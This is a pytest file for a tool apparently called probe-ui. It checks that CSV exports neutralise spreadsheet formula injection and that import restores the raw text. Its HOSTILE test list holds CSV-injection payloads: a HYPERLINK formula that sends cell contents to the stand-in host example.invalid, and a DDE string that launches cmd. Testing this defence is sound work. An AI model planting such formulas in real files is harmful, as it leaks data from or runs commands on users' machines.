"""Issue 24: CSV is safe to open in a spreadsheet. Cells beginning with =, +, -, @, TAB or CR (model answers, notes,
rater names, preset text) ran as formulas: 179 cells in a run's data.csv, 10 in the by-variant export, 13 in
`ratings export`. Every CSV writer neutralises them with a leading apostrophe (probe_ui.files.spreadsheet), JSONL keeps
the raw text, and `probe-ui import` gives back exactly what was written."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pytest
import sqlalchemy as sa
import yaml
from helpers import write_png, write_preset

from probe_ui.cli import main
from probe_ui.files.spreadsheet import FORMULA_STARTS, neutral, restore
from probe_ui.presets import load_preset
from probe_ui.runner import BatchOptions, run_batch
from probe_ui.store import Store, responses

HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=already quoted"]


@pytest.fixture
def hostile_db(tmp_path: Path) -> tuple[Path, list[int]]:
    write_png(tmp_path / "a.png")
    items = [{"id": f"q{i}", "image": "a.png", "question": text, "options": ["=yes", "no"], "answer": "=yes"}
             for i, text in enumerate(HOSTILE)]
    preset = write_preset(tmp_path / "hostile.yaml", items)
    db = tmp_path / "probe-ui.db"
    store = Store(db)
    run_batch(store, [load_preset(preset)], ["baseline/first"], BatchOptions(run_name="r", progress=False))
    with store.engine.begin() as c:  # replies as a hostile model would write them
        ids = [int(i) for i in c.execute(sa.select(responses.c.id).order_by(responses.c.id)).scalars()]
        for rid, text in zip(ids, HOSTILE):
            c.execute(responses.update().where(responses.c.id == rid).values(raw_text=text, parse_version=None))
    for rid, text in zip(ids, HOSTILE):
        store.rate_response(rid, "unsure", note=text, rater="@rater" if rid % 2 else "-rater")
    return db, ids


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def formulas(values: list[str]) -> list[str]:
    return [c for c in values if c[:1] in FORMULA_STARTS]


def test_neutral_and_restore_round_trip_every_text() -> None:
    for text in [*HOSTILE, "", "'", "''", "'plain", "plain", "=", "-", "a=b"]:
        assert restore(neutral(text)) == text
        assert str(neutral(text))[:1] not in FORMULA_STARTS
    assert neutral(-0.5) == -0.5 and neutral(3) == 3 and neutral(None) is None  # numbers stay numbers
    assert restore("'hand-written") == "'hand-written"


@pytest.mark.parametrize("by", ["response", "variant"])
def test_the_csv_export_runs_no_formula_and_imports_back_raw(hostile_db: tuple[Path, list[int]], tmp_path: Path,
                                                            by: str, capsys: pytest.CaptureFixture[str]) -> None:
    db, _ = hostile_db
    out = tmp_path / f"csv-{by}"
    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(out), "--by", by]) == 0
    written = cells(out / "data.csv")
    assert formulas(written) == []
    assert sum(c.startswith("'") for c in written) >= len(HOSTILE)  # the questions at least, each neutralised
    assert "Safe to open in a spreadsheet" in (out / "README.md").read_text(encoding="utf-8")
    preset = tmp_path / f"back-{by}.yaml"
    assert main(["import", "dataset", str(out), "--to-preset", str(preset)]) == 0
    capsys.readouterr()
    back = yaml.safe_load(preset.read_text(encoding="utf-8"))["items"]
    assert sorted(it["question"] for it in back) == sorted(HOSTILE)  # exactly as written, apostrophes removed
    assert all(it["options"][0] == "=yes" for it in back)


def test_jsonl_keeps_the_raw_text(hostile_db: tuple[Path, list[int]], tmp_path: Path) -> None:
    db, _ = hostile_db
    out = tmp_path / "jsonl"
    assert main(["export", "--db", str(db), "--format", "jsonl", "--out", str(out)]) == 0
    rows = [json.loads(line) for line in (out / "data.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(r["raw_text"] for r in rows) == sorted(HOSTILE)
    assert "Text is raw" in (out / "README.md").read_text(encoding="utf-8")


def test_ratings_export_runs_no_formula_and_imports_back_raw(hostile_db: tuple[Path, list[int]],
                                                             tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    db, ids = hostile_db
    out = tmp_path / "ratings.csv"
    assert main(["ratings", "export", "--db", str(db), "--out", str(out)]) == 0
    assert formulas(cells(out)) == []
    other = tmp_path / "other.db"  # a copy of the store without its ratings, to import them into
    with sqlite3.connect(db) as src, sqlite3.connect(other) as dst:
        src.backup(dst)
        dst.execute("DELETE FROM ratings")
    capsys.readouterr()
    assert main(["ratings", "import", "--db", str(other), str(out)]) == 0
    got = Store(other).ratings_frame(per_rater=True)
    assert sorted(got["note"]) == sorted(HOSTILE)
    assert set(got["rater"]) == {"@rater", "-rater"}
